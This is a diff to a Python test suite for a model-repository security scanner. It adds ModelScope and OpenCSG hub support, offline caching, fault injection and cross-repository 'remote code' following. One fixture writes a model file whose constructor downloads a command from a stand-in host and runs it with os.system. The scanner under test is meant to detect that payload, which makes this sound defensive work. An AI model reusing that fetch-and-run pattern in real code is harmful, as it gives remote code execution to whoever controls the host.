@@ -29,13 +29,16 @@ MODELGATE = None
 with open(os.path.join(SOURCE, "docs", "report-v1.schema.json")) as _f:
     CONTRACT = json.load(_f)
 TOKEN = "hf_test_token_do_not_leak"
+MS_TOKEN = "ms_test_token_do_not_leak"
+CSG_TOKEN = "csg_test_token_do_not_leak"
 
 
 def clean_env(tmp, **extra):
-    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower() and not k.startswith(("HF_", "MODELGATE_", "HUGGINGFACE"))}
+    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower() and not k.startswith(("HF_", "MODELGATE_", "HUGGINGFACE", "MODELSCOPE_", "CSGHUB_"))}
     env.update({
         "NO_PROXY": "*", "no_proxy": "*",  # never leave loopback
         "HF_HOME": os.path.join(tmp, "hf"), "MODELGATE_CACHE_DIR": os.path.join(tmp, "cache"), "HF_TOKEN": TOKEN,
+        "MODELSCOPE_API_TOKEN": MS_TOKEN, "CSGHUB_TOKEN": CSG_TOKEN,
         "MODELGATE_HTTP_TIMEOUT": "20", "MODELGATE_HTTP_STALL": "5", "MODELGATE_HTTP_RETRIES": "2", "MODELGATE_HTTP_MAX_WAIT": "5",
         "MODELGATE_HTTP_CONNECT_TIMEOUT": "5",
     })
@@ -187,6 +190,103 @@ class Examples(Base):
         self.assertEqual(tr["cached_bytes"], 0)
 
 
+class OtherHubs(Base):
+    """ModelScope (ms:) and OpenCSG (csg:) read the same repositories with the same results."""
+
+    def test_every_example_same_through_modelscope_and_opencsg(self):
+        names = sorted(n for n in os.listdir(EXAMPLES) if os.path.isdir(os.path.join(EXAMPLES, n)))
+        hub = self.start({"acme/" + n: os.path.join(EXAMPLES, n) for n in names})
+        env = self.env()
+        for n in names:
+            rc_dir, local, _ = scan(os.path.join(EXAMPLES, n), env)
+            for prefix in ("ms:", "csg:"):
+                with self.subTest(example=n, hub=prefix):
+                    rc_hub, remote, err = scan(prefix + "acme/" + n, env, "--endpoint", hub.url)
+                    self.assertIsNotNone(remote, err)
+                    self.assertEqual(findings(local), findings(remote))
+                    self.assertEqual(plan(local), plan(remote))
+                    self.assertEqual(rc_dir, rc_hub, reasons(remote))
+                    t = remote["targets"][0]
+                    self.assertEqual(t["status"], local["targets"][0]["status"], reasons(remote))
+                    self.assertRegex(t["source"]["revision"], "^[0-9a-f]{40}$")
+                    self.assertEqual(t["source"]["kind"], "hub")
+                    self.assertGreater(t["source"]["transfer"]["requests"], 0)
+                    if jsonschema:
+                        jsonschema.validate(remote, CONTRACT)
+        log = hub.log()
+        ms_api = [e for e in log if e["path"].startswith("/api/v1/")]
+        csg_api = [e for e in log if e["path"].startswith("/csg/")]
+        lfs = [e for e in log if e["host"].startswith("localhost")]
+        self.assertTrue(ms_api and csg_api and lfs)
+        # ModelScope's token goes as its session cookie, OpenCSG's as a bearer token, to the hub host only.
+        self.assertTrue(all(e["cookie"] == "m_session_id=" + MS_TOKEN for e in ms_api))
+        self.assertTrue(all(e["auth"] for e in csg_api))
+        self.assertFalse(any(e["auth"] for e in lfs))
+
+    def test_second_scan_from_the_cache_and_offline(self):
+        hub = self.start({"acme/pc": os.path.join(EXAMPLES, "pickle-checkpoint")})
+        env = self.env()
+        results = {}
+        for prefix in ("ms:", "csg:"):
+            rc1, first, err = scan(prefix + "acme/pc", env, "--endpoint", hub.url)
+            self.assertIsNotNone(first, err)
+            rc2, second, err = scan(prefix + "acme/pc", env, "--endpoint", hub.url)
+            self.assertEqual(findings(first), findings(second))
+            self.assertGreater(second["targets"][0]["source"]["transfer"]["cached_bytes"], 0)
+            results[prefix] = (rc1, first)
+        hub.close()
+        self.hub = None
+        for prefix, (rc1, first) in results.items():
+            with self.subTest(hub=prefix):
+                rc3, offline, err = scan(prefix + "acme/pc", env, "--endpoint", hub.url, "--offline")
+                self.assertIsNotNone(offline, err)
+                self.assertEqual(findings(first), findings(offline))
+                self.assertEqual(rc1, rc3, reasons(offline))
+                self.assertEqual(offline["targets"][0]["source"]["transfer"]["requests"], 0)
+                self.assertEqual(offline["targets"][0]["source"]["revision"], first["targets"][0]["source"]["revision"])
+                rc4, _, err = scan(prefix + "acme/never-seen", env, "--endpoint", hub.url, "--offline")
+                self.assertEqual(rc4, 2)
+                self.assertIn("offline", err)
+
+    def test_modelscope_revisions_and_urls(self):
+        hub = self.start({"acme/x": os.path.join(EXAMPLES, "remote-code-model")})
+        env = self.env()
+        rc0, base, _ = scan(os.path.join(EXAMPLES, "remote-code-model"), env)
+        for target in ("ms:acme/x@v1.0", "ms:acme/x@master", "https://www.modelscope.cn/models/acme/x",
+                       "https://modelscope.cn/models/acme/x/files?Revision=v1.0"):
+            with self.subTest(target=target):
+                rc, report, err = scan(target, env, "--endpoint", hub.url)
+                self.assertIsNotNone(report, err)
+                self.assertEqual(findings(base), findings(report))
+                self.assertRegex(report["targets"][0]["source"]["revision"], "^[0-9a-f]{40}$")
+        rc, report, err = scan("ms:acme/x@v9", env, "--endpoint", hub.url)
+        self.assertEqual(rc, 2)
+        self.assertIn("revision not found", err)
+
+    def test_modelscope_without_commit_ids_records_the_revision(self):
+        hub = self.start({"acme/x": os.path.join(EXAMPLES, "remote-code-model")}, ["nocommit:/revisions"])
+        rc, report, err = scan("ms:acme/x", self.env(), "--endpoint", hub.url)
+        self.assertIsNotNone(report, err)
+        # No revision given: the newest tag, as the SDK picks it; no commit named, so the tag is what is recorded.
+        self.assertEqual(report["targets"][0]["source"]["revision"], "v1.0")
+        files = [e for e in hub.log() if "/repo/files" in e["path"]]
+        self.assertTrue(files and all("Revision=v1.0" in e["path"] for e in files))
+
+    def test_modelscope_domain_and_csghub_domain(self):
+        hub = self.start({"acme/x": os.path.join(EXAMPLES, "remote-code-model")})
+        host = "127.0.0.1:%d" % hub.port
+        # MODELSCOPE_DOMAIN is a host name the SDK puts after https://; a full URL is taken as it is.
+        rc, report, err = scan("ms:acme/x", self.env(MODELSCOPE_DOMAIN=hub.url))
+        self.assertIsNotNone(report, err)
+        self.assertEqual(report["targets"][0]["source"]["transfer"]["endpoint"], hub.url)
+        rc, report, err = scan("ms:acme/x", self.env(MODELSCOPE_DOMAIN=host, MODELGATE_HTTP_RETRIES="0"))
+        self.assertEqual(rc, 2)
+        self.assertIn("https://" + host, err)
+        rc, report, err = scan("csg:acme/x", self.env(CSGHUB_DOMAIN=hub.url))
+        self.assertIsNotNone(report, err)
+        self.assertEqual(report["targets"][0]["source"]["transfer"]["endpoint"], hub.url)
+
+
 def write_sparse_checkpoint(folder, storage_bytes):
     """A PyTorch zip checkpoint whose one storage is `storage_bytes` of zeros (a hole on disk)."""
     numel = storage_bytes // 4
@@ -280,25 +380,34 @@ class Large(Base):
         hub.warm("acme/big")
         env = self.env()
         rc_dir, local, _ = scan(repo, env)
-        start = time.time()
-        rc_hub, remote, err = scan("hf:acme/big", env, "--endpoint", hub.url)
-        self.assertIsNotNone(remote, err)
-        self.assertEqual(findings(local), findings(remote))
-        self.assertEqual(plan(local), plan(remote))
-        self.assertEqual(rc_dir, rc_hub, reasons(remote))
-        self.assertTrue(any(f["rule_id"].startswith(("BH", "PY")) for f in remote["targets"][0]["findings"]))
-        tr = remote["targets"][0]["source"]["transfer"]
-        self.assertGreater(tr["repository_bytes"], 3 << 30)
-        self.assertLess(tr["fetched_bytes"], 1 << 20, tr)
-        print("\n  sparse 2 GB torch zip + 1 GB safetensors: fetched %d of %d bytes in %d requests, %.2f s" %
-              (tr["fetched_bytes"], tr["repository_bytes"], tr["requests"], time.time() - start), file=sys.stderr)
+        for prefix in ("hf:", "ms:", "csg:"):
+            with self.subTest(hub=prefix):
+                shutil.rmtree(os.path.join(self.tmp, "cache"), ignore_errors=True)
+                start = time.time()
+                rc_hub, remote, err = scan(prefix + "acme/big", env, "--endpoint", hub.url)
+                self.assertIsNotNone(remote, err)
+                self.assertEqual(findings(local), findings(remote))
+                self.assertEqual(plan(local), plan(remote))
+                self.assertEqual(rc_dir, rc_hub, reasons(remote))
+                self.assertTrue(any(f["rule_id"].startswith(("BH", "PY")) for f in remote["targets"][0]["findings"]))
+                tr = remote["targets"][0]["source"]["transfer"]
+                self.assertGreater(tr["repository_bytes"], 3 << 30)
+                self.assertLess(tr["fetched_bytes"], 1 << 20, tr)
+                print("\n  %s sparse 2 GB torch zip + 1 GB safetensors: fetched %d of %d bytes in %d requests, %.2f s" %
+                      (prefix, tr["fetched_bytes"], tr["repository_bytes"], tr["requests"], time.time() - start), file=sys.stderr)
 
 
 class Faults(Base):
+    PREFIX = "hf:"
+    REVISION = "/api/models/acme/x/revision"  # the first API request
+    LISTING = "/tree/"
+    NO_REPO = "repository not found"
+    NO_REV = "revision not found"
+
     def run_fault(self, faults, example="remote-code-model", target=None, extra_env=None):
         hub = self.start({"acme/x": os.path.join(EXAMPLES, example)}, faults)
         env = self.env(**(extra_env or {}))
-        rc, report, err = scan(target or "hf:acme/x", env, "--endpoint", hub.url)
+        rc, report, err = scan(target or self.PREFIX + "acme/x", env, "--endpoint", hub.url)
         return rc, report, err, hub
 
     def assert_partial(self, faults, needle, extra_env=None, **kw):
@@ -317,13 +426,13 @@ class Faults(Base):
     def test_429_with_retry_after_then_success(self):
         rc0, base = self.baseline()
         start = time.time()
-        rc, report, err, hub = self.run_fault(["429:/api/models/acme/x/revision:1"])
+        rc, report, err, hub = self.run_fault(["429:%s:1" % self.REVISION])
         self.assertEqual(rc, rc0, err)
         self.assertEqual(findings(base), findings(report))
         self.assertGreaterEqual(time.time() - start, 1.0)  # Retry-After: 1 was honoured
 
     def test_429_past_retries(self):
-        self.assert_partial(["429:/api/models/acme/x/revision"], "rate limited")
+        self.assert_partial(["429:" + self.REVISION], "rate limited")
 
     def test_500_then_200(self):
         rc0, base = self.baseline()
@@ -346,7 +455,7 @@ class Faults(Base):
         self.assert_partial(["loop:config.json"], "redirect loop")
 
     def test_hostile_listing_names(self):
-        report = self.assert_partial(["hostile:/tree/"], "no repository can hold")
+        report = self.assert_partial(["hostile:" + self.LISTING], "no repository can hold")
         paths = {f["file"] for f in report["targets"][0]["findings"]}
         self.assertFalse(any(".." in p or p.startswith("/") for p in paths))
 
@@ -357,10 +466,10 @@ class Faults(Base):
         self.assert_partial(["forbidden:/api/"], "403")
 
     def test_missing_repository(self):
-        self.assert_partial([], "repository not found", target="hf:acme/nothing-here")
+        self.assert_partial([], self.NO_REPO, target=self.PREFIX + "acme/nothing-here")
 
     def test_missing_revision(self):
-        self.assert_partial([], "revision not found", target="hf:acme/x@no-such-branch")
+        self.assert_partial([], self.NO_REV, target=self.PREFIX + "acme/x@no-such-branch")
 
     def test_renamed(self):
         self.assert_partial(["rename:/api/models/acme/old:acme/x"], "renamed", target="hf:acme/old")
@@ -377,9 +486,102 @@ class Faults(Base):
         write_sparse_safetensors(repo, 64 << 20)
         hub = self.start({"acme/x": repo}, ["norange:model.safetensors"])
         hub.warm("acme/x")
-        rc, report, err = scan("hf:acme/x", self.env(), "--endpoint", hub.url)
+        rc, report, err = scan(self.PREFIX + "acme/x", self.env(), "--endpoint", hub.url)
         self.assertEqual(rc, 2)
         self.assertIn("model.safetensors: cannot fetch: range 0-65536: response body longer than", reasons(report))
+
+
+class Follow(Base):
+    """--follow-remote-code: the repository an auto_map names is fetched and scanned as a followed target."""
+
+    def repos(self):
+        shared = os.path.join(self.tmp, "shared")
+        deeper = os.path.join(self.tmp, "deeper")
+        for d in (shared, deeper):
+            os.makedirs(d)
+        with open(os.path.join(shared, "config.json"), "w") as f:
+            # Back to the first repository (a cycle) and on to a third (depth 2).
+            json.dump({"model_type": "shared", "auto_map": {"AutoConfig": "acme/cross--configuration_x.XConfig",
+                                                            "AutoModel": "example-org/deeper--modeling_deep.DeepModel"}}, f)
+        with open(os.path.join(shared, "modeling_shared.py"), "w") as f:
+            f.write("import os\nimport urllib.request\n\n\nclass SharedModel:\n    def __init__(self):\n"
+                    "        cmd = urllib.request.urlopen('http://shared-code.invalid/x').read().decode()\n        os.system(cmd)\n")
+        with open(os.path.join(shared, "configuration_shared.py"), "w") as f:
+            f.write("class SharedConfig:\n    pass\n")
+        with open(os.path.join(deeper, "config.json"), "w") as f:
+            json.dump({"model_type": "deep"}, f)
+        return {"acme/cross": os.path.join(EXAMPLES, "cross-repo-auto-map"), "example-org/shared-code": shared,
+                "example-org/deeper": deeper}
+
+    def test_follows_auto_map_to_the_other_repository(self):
+        hub = self.start(self.repos())
+        env = self.env()
+        rc, report, err = scan("hf:acme/cross", env, "--endpoint", hub.url)
+        self.assertEqual(len(report["targets"]), 1)
+        rc, report, err = scan("hf:acme/cross", env, "--endpoint", hub.url, "--follow-remote-code")
+        self.assertIsNotNone(report, err)
+        targets = report["targets"]
+        self.assertEqual([t["target"] for t in targets], ["hf:acme/cross", "hf:example-org/shared-code"], err)
+        followed = targets[1]
+        self.assertEqual(followed["followed_from"], "hf:acme/cross")
+        ref = followed["followed_reference"]
+        self.assertEqual((ref["file"], ref["remote_repo"], ref["depth"]), ("config.json", "example-org/shared-code", 1))
+        self.assertIn("example-org/shared-code--", ref["value"])
+        self.assertRegex(followed["source"]["revision"], "^[0-9a-f]{40}$")
+        self.assertEqual(followed["status"], "complete", reasons({"targets": [followed]}))
+        # The followed code is analysed: its network-to-shell constructor is found.
+        self.assertTrue(any(f["file"] == "modeling_shared.py" for f in followed["findings"]), followed["findings"])
+        self.assertNotIn("followed_from", targets[0])
+        if jsonschema:
+            jsonschema.validate(report, CONTRACT)
+        # Depth 2 reaches the third repository; the cycle back to acme/cross is not scanned again.
+        rc, report, err = scan("hf:acme/cross", env, "--endpoint", hub.url, "--follow-remote-code=2")
+        names = [t["target"] for t in report["targets"]]
+        self.assertEqual(names, ["hf:acme/cross", "hf:example-org/shared-code", "hf:example-org/deeper"], err)
+        self.assertEqual(report["targets"][2]["followed_from"], "hf:example-org/shared-code")
+        self.assertEqual(report["targets"][2]["followed_reference"]["depth"], 2)
+
+    def test_local_folder_and_modelscope_targets_follow_too(self):
+        hub = self.start(self.repos())
+        env = self.env()
+        rc, report, err = scan(os.path.join(EXAMPLES, "cross-repo-auto-map"), env, "--endpoint", hub.url, "--follow-remote-code")
+        self.assertIsNotNone(report, err)
+        self.assertEqual([t["target"] for t in report["targets"]][1:], ["hf:example-org/shared-code"])
+        rc, report, err = scan("ms:acme/cross", env, "--endpoint", hub.url, "--follow-remote-code")
+        self.assertEqual([t["target"] for t in report["targets"]], ["ms:acme/cross", "ms:example-org/shared-code"], err)
+
+    def test_unreachable_followed_repository_is_partial(self):
+        repos = self.repos()
+        del repos["example-org/shared-code"]
+        hub = self.start(repos)
+        rc, report, err = scan("hf:acme/cross", self.env(), "--endpoint", hub.url, "--follow-remote-code")
+        self.assertEqual(rc, 1)  # LD102 in the first target outranks the incomplete second (README, exit codes)
+        self.assertEqual(report["targets"][1]["status"], "partial")
+        self.assertEqual(report["targets"][1]["followed_from"], "hf:acme/cross")
+        self.assertIn("repository not found", reasons({"targets": [report["targets"][1]]}))
+
+    def test_depth_is_bounded(self):
+        p = subprocess.run([MODELGATE, "scan", "hf:a/b", "--follow-remote-code=9"], env=self.env(), capture_output=True, text=True,
+                           timeout=60)
+        self.assertEqual(p.returncode, 2)
+
+
+class MsFaults(Faults):
+    PREFIX = "ms:"
+    REVISION = "/api/v1/models/acme/x/revisions"
+    LISTING = "/repo/files"
+    NO_REPO = "not exists"
+    NO_REV = "revision not found"
+    test_renamed = None  # a Hugging Face redirect; not run here
+
+
+class CsgFaults(Faults):
+    PREFIX = "csg:"
+    REVISION = "/api/models/acme/x/revision"
+    LISTING = "/revision/"
+    NO_REPO = "404"
+    NO_REV = "404"
+    test_renamed = None
 
 
 class Usage(Base):
@@ -389,11 +591,12 @@ class Usage(Base):
             self.assertEqual(p.returncode, 2, bad)
             self.assertIn("invalid hub target", p.stderr)
 
-    def test_hubs_not_built_say_so(self):
-        for t in ("ms:damo/x", "csg:a/b"):
-            p = subprocess.run([MODELGATE, "scan", t], env=self.env(), capture_output=True, text=True, timeout=60)
-            self.assertEqual(p.returncode, 2, t)
-            self.assertIn("not implemented", p.stderr)
+    def test_bad_modelscope_and_opencsg_ids(self):
+        for bad in ("ms:noslash", "ms:a/b/c", "ms:a/b@", "csg:../x", "https://www.modelscope.cn/datasets/a/b",
+                    "https://www.modelscope.cn/models/a", "https://modelscope.cn/models/a/b/tree/x", "ms:a/b@x y"):
+            p = subprocess.run([MODELGATE, "scan", bad], env=self.env(), capture_output=True, text=True, timeout=60)
+            self.assertEqual(p.returncode, 2, bad)
+            self.assertIn("invalid hub target", p.stderr)
 
 
 if __name__ == "__main__":
